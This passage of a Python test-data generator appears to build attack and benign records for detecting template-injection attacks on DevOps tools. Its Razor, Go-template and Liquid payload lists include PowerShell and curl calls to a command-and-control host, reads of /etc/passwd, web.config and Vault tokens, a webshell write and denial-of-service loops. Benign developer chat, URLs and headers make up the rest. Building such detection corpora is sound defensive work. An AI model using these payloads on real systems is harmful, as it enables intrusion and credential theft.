    "{{ beans.get(\"jdbcTemplate\").queryForList(\"select * from users\") }}",
]

# ssti-razor. Target: Razor in .NET deployment tools (Octopus Deploy-style release notes, Azure DevOps Server
# extensions)
RAZOR: list[Entry] = [
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "@{ System.Diagnostics.Process.Start(\"powershell\",\"-c iwr http://" + C2 + "/a.ps1|iex\"); }",
    "@(System.IO.File.ReadAllText(\"C:\\\\Octopus\\\\OctopusServer.config\"))",
    "@System.Environment.GetEnvironmentVariables()",
    "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; "
    "p.StartInfo.Arguments = \"/c net user\"; p.Start(); }",
    "@System.IO.Directory.GetFiles(\"C:\\\\\")",
    "@Html.Raw(System.IO.File.ReadAllText(@\"C:\\inetpub\\wwwroot\\web.config\"))",
    "@System.Reflection.Assembly.Load(Convert.FromBase64String(\"" + _b64(b"MZ\x90\x00\x03\x00\x00\x00\x04")
    + "\"))",
    "@{ System.IO.File.WriteAllText(@\"C:\\inetpub\\wwwroot\\s.aspx\", Request[\"d\"]); }",
]

# ssti-go-templates. Target: Go text/template with functions in consul-template/Nomad job templates, Hugo docs
# builds, Helm/sprig charts and Alertmanager/Grafana notification templates
GO_TPL: list[Entry] = [
    "{{ plugin \"/bin/sh\" \"-c\" \"id\" }}",
    "{{ file \"/etc/passwd\" }}",
    "{{ with secret \"secret/data/ci/deploy\" }}{{ .Data.data.password }}{{ end }}",
    "{{ env \"VAULT_TOKEN\" }}",
    "{{ readFile \"/etc/passwd\" }}",
    "{{ os.ReadDir \"/\" }}",
    "{{ define \"T1\" }}{{ template \"T1\" }}{{ end }}{{ template \"T1\" }}",
    "{{ range $i, $e := until 99999999 }}{{ range until 99999999 }}x{{ end }}{{ end }}",
    "{{ plugin \"curl\" \"-s\" \"http://" + C2 + "/nomad\" }}",
]

# ssti-liquid. Target: Liquid in Jekyll docs sites (GitLab Pages builds) and Shopify-style templates
LIQUID: list[Entry] = [
    "{% include ../../../../etc/passwd %}",
    "{% include_relative ../../../etc/passwd %}",
    "{{ site | jsonify }}",
    "{% for i in (1..100000000) %}{% for j in (1..100000000) %}x{% endfor %}{% endfor %}",
    "{% assign s = 'a' %}{% for i in (1..40) %}{% assign s = s | append: s %}{% endfor %}{{ s }}",
    "{% include /etc/passwd %}",
    "{{ site.github | inspect }}",
    "{% capture x %}{% include_relative ../_config.yml %}{% endcapture %}{{ x }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE_INJECTION),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
    ("generic", "ssrf-internal-ip", SSRF_INTERNAL),
    ("generic", "javascript-prototype-pollution", PROTO),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASSES),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SER),
    ("java", "java-deserialization-gadgets", JAVA_GADGETS),
    ("java", "log4shell", LOG4SHELL),
    ("java", "expression-language", EL),
    ("java", "polymorphic-deserialization", POLY),
    ("java", "class-loading", CLASSLOAD),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "ssti-jinja2", JINJA2),
    ("ssti", "ssti-twig", TWIG),
    ("ssti", "ssti-freemarker", FREEMARKER),
    ("ssti", "ssti-velocity", VELOCITY),
    ("ssti", "ssti-thymeleaf", THYMELEAF),
    ("ssti", "ssti-erb", ERB),
    ("ssti", "ssti-smarty", SMARTY),
    ("ssti", "ssti-handlebars", HANDLEBARS),
    ("ssti", "ssti-pug", PUG),
    ("ssti", "ssti-mako", MAKO),
    ("ssti", "ssti-tornado", TORNADO),
    ("ssti", "ssti-nunjucks", NUNJUCKS),
    ("ssti", "ssti-ejs", EJS),
    ("ssti", "ssti-pebble", PEBBLE),
    ("ssti", "ssti-razor", RAZOR),
    ("ssti", "ssti-go-templates", GO_TPL),
    ("ssti", "ssti-liquid", LIQUID),
]
# qs-style bracket pairs and property-binding pairs written as `name=value`, sent unquoted
RAW_KV_SUBS = {"javascript-prototype-pollution", "ssti-ejs", "expression-language"}

# the parameter names each kind of payload travels under on our routes: the tool's own field names
NAMES: dict[str, list[str]] = {
    "nodejs-injection": ["script", "expression", "code", "filter", "msg"],
    "nodejs-dos": ["pattern", "regex", "text", "q", "script"],
    "ssrf-cloud-metadata": ["url", "webhook_url", "import_url", "remote_url", "clone_addr", "endpoint"],
    "ssrf-internal-ip": ["url", "webhook_url", "import_url", "remote_url", "callback_url", "target"],
    "javascript-prototype-pollution": ["config", "settings", "options", "data"],
    "ruby-injection": ["path", "cmd", "template", "q", "filename"],
    "perl-injection": ["file", "configdir", "old", "q", "cmd"],
    "php-data-scheme": ["page", "file", "template", "include", "url"],
    "log4shell": ["q", "username", "search", "message", "branch"],
    "jsp-upload": ["file", "content", "body", "attachment"],
    "java": ["script", "value", "expression", "query", "config", "q"],
    "ssti": ["template", "body", "subject", "message", "description", "name"],
}
JSP_NAME = re.compile(r"\.(jsp|jspx|jspf)", re.IGNORECASE)


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("query", "form", "param-name", "rs-param-name")
    unique = True
    documents = True
    path_forbids = "/?#"
    xml_controls = "\n\t\r"
    file_type = "application/octet-stream"

    def name(self, category: str, sub: str, k: int) -> str:
        names = NAMES.get(sub) or NAMES[category]
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        """A Java stream held as latin-1 text: its bytes go percent-encoded."""
        return sub in ("java-serialization", "java-deserialization-gadgets") and any(
            ord(ch) > 0x7e or (ord(ch) < 0x20 and ch not in "\n\r\t") for ch in payload)

    def upload_body(self, filename: str) -> str:
        """A JSP file name carries the JSP shell it is meant to run."""
        return JSP_SHELL if JSP_NAME.search(filename) else self.upload


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently by developers, SREs and release managers (Slack about pipelines, failed
# builds, dashboards, alerts, tickets and reviews, with snippets as colleagues paste them; bios; searches for
# colleagues; links to builds, merge requests and dashboards; admin search prose; profiles; artifact and log file
# names; ordinary headers of the tools' own clients)
CHAT = [
    # pipelines and failed builds
    "build #4512 on main failed in the lint stage: `npm ERR! code ELIFECYCLE`, retrying once before I dig in",
    "can someone approve !2231? it bumps log4j-core to 2.17.1 in the reporting service, no code changes",
    "Jenkinsfile snippet for the new repo: `sh './gradlew test --info'` then `junit 'build/test-results/**/*.xml'`",
    "in GitLab CI use `rules: - if: $CI_COMMIT_BRANCH == \"main\"` instead of only/except, the docs recommend it",
    "${CI_PROJECT_DIR} vs $CI_BUILDS_DIR confused me for an hour this morning",
    "TeamCity doesn't expand %env.BUILD_NUMBER% inside the Docker wrapper step, known issue, workaround in OPS-1432",
    "Argo CD says the payments app is OutOfSync: ComparisonError: rpc error: code = Unknown desc = helm template . "
    "failed exit status 1",
    "Drone pipeline is stuck on 'pending' again, the runner on ci-runner-07 lost its token",
    "Rundeck job restart-payments just runs `sudo systemctl restart payments` on each node, nothing fancy",
    "the AWX job template for patching failed on 3 hosts with 'UNREACHABLE', VPN flapped",
    "Bamboo plan CORE-MAIN is green again, the flaky test was the timezone one",
    "Dockerfile review: please chain `apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*`",
    "Gradle build OOM on the agents, bumped org.gradle.jvmargs=-Xmx3g in gradle.properties",
    "Kotlin DSL: tasks.register<Exec>(\"buildFrontend\") { commandLine(\"npm\", \"run\", \"build\") } works now",
    "Node heap OOM during webpack: FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of "
    "memory. NODE_OPTIONS=--max-old-space-size=4096 fixed it",
    "release 3.14.0 is tagged, artifacts are in Nexus under maven-releases, changelog in Confluence",
    "Verdaccio storage is full again, who published 400 prerelease versions of @corp/ui?",
    "Harbor replication to the DR registry failed with 'unauthorized: authentication required', rotating the robot "
    "account",
    "Artifactory remote repo for Maven Central keeps timing out, switched the settings.xml mirror for now",
    "the Groovy in our shared library is just `def call(Map config) { node { checkout scm; sh 'make' } }`",
    "`bundle exec rake db:migrate` failed on staging, missing column on the Redmine upgrade",
    "perl one-liner from the release script: perl -pi -e 's/VERSION = .*/VERSION = \"1.8.0\"/' lib/Version.pm",
    # dashboards, alerts, queries
    "PromQL for the error budget panel: sum(rate(http_requests_total{status=~\"5..\"}[5m])) / "
    "sum(rate(http_requests_total[5m]))",
    "LogQL I use for gateway timeouts: {app=\"gateway\"} |= \"timeout\" | json | line_format \"{{.msg}}\"",
    "Kibana query for the checkout errors: service.name:\"checkout\" and http.response.status_code >= 500",
    "grafana alert fired: disk usage > 90% on ci-runner-07, silenced for 2h while I clean /var/lib/docker",
    "Prometheus target down: http://10.20.3.14:9100/metrics, node exporter got OOM killed",
    "curl -s http://localhost:9090/-/ready is what the readiness probe runs, returns 200 now",
    "Zabbix trigger last(/web01/system.cpu.load[all,avg1])>5 keeps flapping, raising it to 8",
    "the Zabbix agent listens on 10050 and the server on 10051, firewall ticket is NET-220",
    "Alertmanager template: {{ range .Alerts }}{{ .Annotations.summary }}{{ end }} prints nothing for resolved "
    "alerts",
    "Nagios check_http for the wiki is warning on cert expiry in 14 days",
    "the IMDSv2 hop limit on the runners is 1, so containers can't reach 169.254.169.254 - that's on purpose",
    "SSRF finding from the pentest is fixed: webhook URLs to private ranges and localhost are rejected now, SEC-211",
    "helm template renders `{{ .Values.image.tag }}` empty when the values file isn't passed with -f",
    "SonarQube quality gate failed on coverage 78.2% < 80%, adding tests for the parser",
    # code review and tickets
    "Sonar flagged Runtime.getRuntime().exec() in the old deploy tool as a hotspot, marked reviewed, args are "
    "constants",
    "we pinned lodash to 4.17.21 for the prototype pollution CVE, dependabot PR is #812",
    "review comment on !1450: th:text=\"${user.name}\" escapes, th:utext doesn't, please switch",
    "the SpEL in @PreAuthorize(\"hasRole('ADMIN')\") is fine, reviewer just wants a constant",
    "log4j2.formatMsgNoLookups=true is still in the JVM args of the old agents, harmless, removing it in the cleanup",
    "JNDI lookups are disabled by default since log4j 2.16, we're on 2.23 everywhere",
    "we moved the session store off Java serialization to JSON, ObjectInputStream is gone from the codebase",
    "OGNL warnings in the Struts logs again, that app is decommissioned in Q3 anyway",
    "ReDoS warning from CodeQL on /^(\\s*#\\s*)+$/ in the changelog parser, rewriting it without nesting",
    "Jira JQL for the board: project = OPS AND status = \"In Progress\" AND assignee = currentUser()",
    "Redmine ticket #4521: the {{toc}} macro breaks on wiki pages with unicode headings",
    "MediaWiki service catalog uses {{Infobox service|owner=platform|tier=1}}, please fill in yours",
    "Confluence page 'Runbook: rotating the Nexus admin password' is updated with the new vault path",
    "Gitea webhook to http://drone.internal/hook returns 403, probably a secret mismatch",
    "Gerrit change 18812 needs a +2 from someone in tools-core",
    "the Ansible role does {% for host in groups['web'] %}{{ hostvars[host]['ansible_host'] }}{% endfor %} for the "
    "upstream block",
    "AWX runs as the awx user, so {{ lookup('env', 'HOME') }} is /var/lib/awx, not your home dir",
    "Chef template: <%= node['nginx']['worker_processes'] %> comes from the role attributes",
    "release-notes bot template: {{#each mergeRequests}}- {{title}} (!{{iid}}){{/each}}",
    "the FreeMarker email uses ${build.number} and <#if failed>...</#if>, looks fine in preview",
    "Velocity in the Jira notification scheme: $issue.key - $issue.summary",
    "Twig on the status widget: {{ build.duration|date('i:s') }}",
    "the old status page still runs Smarty, {$service.name} renders fine",
    "Razor view: @Model.BuildNumber shows blank in the Octopus release notes",
    "Pug mixin +button('Deploy') broke after the upgrade to pug 3",
    "Jekyll docs: {% include note.html content=\"Requires VPN\" %} on every internal page",
    "mako template in the legacy admin: ${h.url_for('home')}",
    "EJS partial <%- include('header') %> went missing when we moved the views folder",
    "Nunjucks macro in the Eleventy docs site: {% macro card(title) %}",
    "Pebble in the notification service: {{ user.name | upper }}",
    "tornado template loop: {% for item in items %}{{ item }}{% end %}",
    "jsp review: <c:out value=\"${build.status}\"/> is the escaped way, not plain ${build.status}",
    "stack trace from prod: java.lang.NullPointerException at com.example.billing.InvoiceService.render("
    "InvoiceService.java:88)",
    "Caused by: java.lang.ClassNotFoundException: org.postgresql.Driver - the shaded jar dropped the driver",
    "TypeError: Cannot read properties of undefined (reading 'map') at /app/src/routes/users.js:42:17",
    "file:///Users/dana/Downloads/report.html is on my laptop, I'll upload the real report to the ticket",
    # bios
    "SRE on the platform team. Prometheus, Grafana, Kubernetes. On call every fourth week.",
    "Release manager for the payments train. Jira, Confluence and too many spreadsheets.",
    "Build and CI tooling: Jenkins shared libraries, GitLab runners, Gradle caches. Ask me about flaky tests.",
    "Java backend dev, Spring Boot and Kafka. Reviewing your log4j upgrades since 2021.",
    "Ruby and Perl old-timer, now mostly Go. Maintainer of the Redmine plugins nobody else wants.",
    "Node.js developer on the ChatOps bot. If hubot is down, it's probably me.",
    "Security champion for tools-core. Sonar rules, dependency updates and the occasional pentest finding.",
]

SEARCHES = [
    "platform team", "sre", "jenkins", "gitlab admins", "release manager", "kibana", "grafana", "on-call",
    "nexus", "devops", "ansible", "infra-tools", "payments-api", "O'Neil", "java", "groovy", "node", "ruby",
    "perl", "template", "jinja", "log4j", "sonar", "jira admin", "confluence", "helm", "argo", "terraform",
    "k8s", "build cop", "team:platform", "repo:gateway", "monitoring", "security champions", "zabbix",
    "redmine", "rundeck", "harbor", "verdaccio", "gerrit reviewers", "Mary-Jo", "d'Arcy",
]

URLS = [
    "https://jenkins.example.com/job/payments/job/main/4512/console",
    "https://gitlab.example.com/platform/gateway/-/merge_requests/2231/diffs",
    "https://gitlab.example.com/platform/gateway/-/pipelines/88123",
    "https://grafana.example.com/d/abc123/api-latency?orgId=1&from=now-6h&to=now&var-service=checkout",
    "https://kibana.example.com/app/discover#/?_g=(time:(from:now-15m,to:now))&_a=(query:(language:kuery,"
    "query:'service.name:checkout'))",
    "https://sonarqube.example.com/dashboard?id=com.example%3Apayments&branch=main",
    "https://jira.example.com/browse/OPS-1432",
    "https://confluence.example.com/display/PLAT/Runbook+-+Nexus+admin+password",
    "https://nexus.example.com/#browse/browse:maven-releases:com%2Fexample%2Fpayments",
    "https://argocd.example.com/applications/argocd/payments?view=tree&resource=",
    "https://prometheus.example.com/graph?g0.expr=up%7Bjob%3D%22node%22%7D%20%3D%3D%200&g0.tab=0",
    "https://zabbix.example.com/zabbix.php?action=problem.view&filter_severities%5B%5D=4",
    "https://redmine.example.com/issues/4521",
    "https://wiki.example.com/index.php?title=Service_Catalog&action=edit&section=2",
    "https://harbor.example.com/harbor/projects/3/repositories/payments-api",
    "https://drone.example.com/platform/gateway/812",
    "https://rundeck.example.com/project/ops/job/show/7d1c2f5e-restart-payments",
    "https://teamcity.example.com/viewLog.html?buildId=99812&buildTypeId=Payments_Build&tab=buildLog",
    "https://gitea.example.com/tools/bots/pulls/41/files",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://docs.gitlab.com/ee/ci/yaml/#rules",
    "https://prometheus.io/docs/prometheus/latest/querying/functions/#histogram_quantile",
]

PROSE = [
    "release managers", "build failures last week", "owners of the payments pipeline", "jenkins admins",
    "people with nexus deploy rights", "on-call rota for platform", "grafana editors",
    "who reviewed merge request 2231", "sonarqube project admins", "ansible awx users", "zabbix alert recipients",
    "template owners for release notes", "log4j upgrade volunteers", "ruby on rails maintainers",
    "perl script owners", "node bot maintainers", "java platform guild", "helm chart reviewers",
    "argo cd app owners", "confluence space admins", "jira project leads", "redmine plugin maintainers",
    "security champions", "users in team sre", "build cop this week", "people in #ci-alerts",
    "gitlab runner admins", "harbor robot account owners", "verdaccio publishers", "kibana dashboard owners",
    "incident commanders", "ci/cd working group", "devops guild", "users created after the migration",
    "teamcity agent owners", "rundeck job owners", "docker registry admins", "prometheus rule reviewers",
    "code owners for gateway", "mediawiki editors",
]

PROFILES = [
    ("Jenkins & Sons Plumbing", "Mill Lane 4, Reading"),
    ("Ruby Perlman", "Harbour St 12, Wellington"),
    ("Java House Coffee", "Pike St 1912, Seattle"),
    ("Velocity Logistics", "Dock Rd 88, Rotterdam"),
    ("Thyme & Leaf Bistro", "Rue Cler 21, Paris"),
    ("Liquid Design Studio", "Shoreditch High St 70, London"),
    ("Razor Sharp Barbers", "King St 5, Cape Town"),
    ("Pug Rescue Society", "Elm Ave 33, Portland"),
    ("Mako Surf School", "Beach Rd 2, Gold Coast"),
    ("Tornado Alley Storm Tours", "Main St 400, Norman"),
    ("Twig & Berry Florist", "Market Sq 9, Bath"),
    ("Pebble Beach Cafe", "Ocean Ave 17, Carmel"),
    ("Smarty Pants Tutoring", "College Rd 3, Oxford"),
    ("Handlebar Bike Shop", "Veloweg 11, Utrecht"),
    ("Emily Erb", "Lindenstr. 23, Freiburg"),
    ("Grafton Kibana", "Ring Rd 40, Nairobi"),
    ("Node Hardware Supply", "Industrial Park 6, Tampere"),
    ("Proto Labs Prototyping", "Tech Way 19, Eindhoven"),
    ("Helm & Anchor Sailing", "Quay St 8, Cork"),
    ("Argo Travel", "Odos Ermou 45, Athens"),
]

UPLOAD_NAMES = [
    "build-4512-console.log", "payments-api-3.14.0.war", "payments-api-3.14.0.jar", "sonar-report.json",
    "junit-results.xml", "coverage-report.html", "jenkins-backup-2024-06-01.tar.gz", "grafana-dashboard-api.json",
    "alert-rules.yml", "values-production.yaml", "Jenkinsfile.groovy", "gitlab-ci.yml", "ansible-inventory.ini",
    "zabbix-templates.xml", "release-notes-3.14.0.md", "heapdump-2024-06-03.hprof", "thread-dump.txt",
    "kibana-export.ndjson", "nexus-cleanup-policy.pdf", "incident-2024-06-02-postmortem.docx",
    "perf-test-results.csv", "docker-compose.override.yml",
]

BENIGN_HEADERS = [
    ("User-Agent", "GitLab/16.11.2"),
    ("User-Agent", "Grafana/10.4.2"),
    ("User-Agent", "Prometheus/2.51.2"),
    ("User-Agent", "Apache-HttpClient/4.5.14 (Java/17.0.11)"),
    ("User-Agent", "Faraday v2.9.0"),
    ("User-Agent", "axios/1.6.8"),
    ("User-Agent", "Go-http-client/2.0"),
    ("User-Agent", "Atlassian HttpClient 3.0.4 / JIRA-9.12.4 (912004) / Default"),
    ("User-Agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
                   "Safari/537.36"),
    ("Referer", "https://grafana.example.com/d/abc123/api-latency?orgId=1&var-service=checkout"),
    ("Referer", "https://jenkins.example.com/job/payments/job/main/4512/"),
    ("Referer", "https://gitlab.example.com/platform/gateway/-/merge_requests/2231"),
    ("Referer", "https://jira.example.com/browse/OPS-1432?focusedCommentId=88123"),
    ("X-Gitlab-Event", "Merge Request Hook"),
    ("X-GitHub-Event", "pull_request"),
    ("X-Request-Id", "9b2e4c1a-7f3d-4e8b-a1c6-2d5f8e0b3a79"),
    ("Accept-Language", "en-US,en;q=0.9,nl;q=0.6"),
    ("Cookie", "session=abc123; grafana_session_expiry=1719003600; theme=dark"),
    ("X-Forwarded-For", "10.20.3.14"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
